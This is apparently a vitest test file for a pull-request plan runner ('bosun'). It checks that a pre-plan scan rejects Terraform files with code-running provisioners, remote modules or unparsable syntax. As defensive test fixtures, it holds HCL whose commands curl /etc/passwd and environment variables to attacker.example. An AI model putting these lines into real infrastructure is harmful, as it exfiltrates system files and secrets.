import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startGithubFake, type GithubFake } from "../../helpers/github-fake/index.js";
import { networkStackFiles } from "../../helpers/network-stack.js";
import { networkOnlyYml } from "../../helpers/pull-request-scenario.js";
import {
  expectNothingApplied,
  expectStillUp,
  HostileRepo,
  startHostileBosun,
  type HostileBosun,
} from "./hostile-harness.js";

/**
 * Pull requests whose HCL runs code, fetches a module from elsewhere, or cannot be parsed, on a
 * repository whose tracked branch denies that on the pre-plan scan: the plan is denied before the
 * engine starts (the stand-in's invocation log stays empty), the check run says which policy
 * denied what, and the scan's findings name the file.
 */

const main = networkStackFiles["infra/network/main.tf"]!;

interface ScanCase {
  name: string;
  /** Files of the head commit on top of the network stack. */
  files: Record<string, string>;
  /** A deny rule over `scan` (no `plan`: it is decided before the engine). */
  deny: string;
  /** What the check run must show. */
  says: RegExp[];
}

const scanCases: ScanCase[] = [
  {
    name: "a local-exec provisioner",
    files: {
      "infra/network/main.tf": `${main}
resource "null_resource" "steal" {
  provisioner "local-exec" {
    command = "curl -d @/etc/passwd https://attacker.example"
  }
}
`,
    },
    deny: "scan.exists(f, f.kind == 'local-exec')",
    says: [/denied by policy no-scan-findings/, /the engine did not run/],
  },
  {
    name: "a .tf file that cannot be parsed",
    files: { "infra/network/broken.tf": 'resource "null_resource" "x" {\n  triggers = {\n' },
    deny: "scan.exists(f, f.kind == 'unparsable')",
    says: [/denied by policy no-scan-findings/, /unparsable/, /infra\/network\/broken\.tf/],
  },
  {
    name: "a .tofu file that cannot be parsed",
    files: { "infra/network/broken.tofu": "}}}{{{" },
    deny: "scan.exists(f, f.kind == 'unparsable')",
    says: [/denied by policy no-scan-findings/, /infra\/network\/broken\.tofu/],
  },
  {
    name: "a module from a git repository",
    files: {
      "infra/network/remote.tf":
        'module "evil" {\n  source = "git::https://attacker.example/m.git"\n}\n',
    },
    deny: "scan.exists(f, f.kind == 'remote-module')",
    says: [/denied by policy no-scan-findings/, /remote-module/, /module\.evil/],
  },
  {
    name: "a module from the registry",
    files: {
      "infra/network/registry.tf":
        'module "vpc" {\n  source  = "terraform-aws-modules/vpc/aws"\n  version = "5.0.0"\n}\n',
    },
    deny: "scan.exists(f, f.kind == 'remote-module')",
    says: [/denied by policy no-scan-findings/, /module\.vpc/],
  },
  {
    name: "a module from an https archive",
    files: {
      "infra/network/archive.tf":
        'module "zip" {\n  source = "https://attacker.example/module.zip"\n}\n',
    },
    deny: "scan.exists(f, f.kind == 'remote-module')",
    says: [/denied by policy no-scan-findings/, /module\.zip/],
  },
  {
    name: "a data source that runs a program",
    files: {
      "infra/network/external.tf":
        'data "external" "env" {\n  program = ["sh", "-c", "env | curl -d @- https://attacker.example"]\n}\n',
    },
    deny: "size(scan) > 0",
    says: [/denied by policy no-scan-findings/, /external-data-source/],
  },
];

// PGlite only: the gate is in the executor, the same code on either database; the PostgreSQL
// run would double the file's time for no new path.
describe.each(["pglite"] as const)("the pre-plan scan gate on %s", (kind) => {
  let hostile: HostileBosun;
  let github: GithubFake;
  const repos = new Map<string, HostileRepo>();

  beforeAll(async () => {
    hostile = await startHostileBosun(kind);
    github = await startGithubFake();
    for (const { name, files, deny } of scanCases) {
      const repo = await HostileRepo.create(github, "scan", {
        headFiles: { "bosun.yml": networkOnlyYml, ...networkStackFiles, ...files },
      });
      // The policy comes from the tracked branch, as every policy does.
      repo.repo.files.set("master", {
        "bosun.yml": `${networkOnlyYml}policies:\n  - name: no-scan-findings\n    deny: "${deny}"\n`,
      });
      repos.set(name, repo);
      await repo.openPullRequest(hostile.bosun);
    }
  });
  afterAll(async () => {
    await github?.close();
    await hostile?.close();
  });

  it.each(scanCases)("denies $name before the engine starts", async ({ name, says }) => {
    const repo = repos.get(name)!;
    const check = await repo.check("bosun/dev", "failure");
    const shown = `${check.output?.summary ?? ""}\n${check.output?.text ?? ""}`;
    for (const pattern of says) expect(shown).toMatch(pattern);
    expect(check.actions ?? []).toEqual([]);
  });

  it("never started the engine, stays up, and still plans a sound pull request", async () => {
    await expectStillUp(hostile.bosun);
    // Every case above was denied before its plan: not one engine command ran.
    expect(await hostile.engineCommands()).toEqual([]);
    for (const repo of repos.values()) {
      await expectNothingApplied(hostile.bosun, repo.id);
    }
    github.verify();
    const sound = await HostileRepo.create(github, "scan-sound");
    await sound.openPullRequest(hostile.bosun);
    await sound.check("bosun/dev", "action_required");
    expect((await hostile.engineCommands()).length).toBeGreaterThan(0);
    github.verify();
  });
});
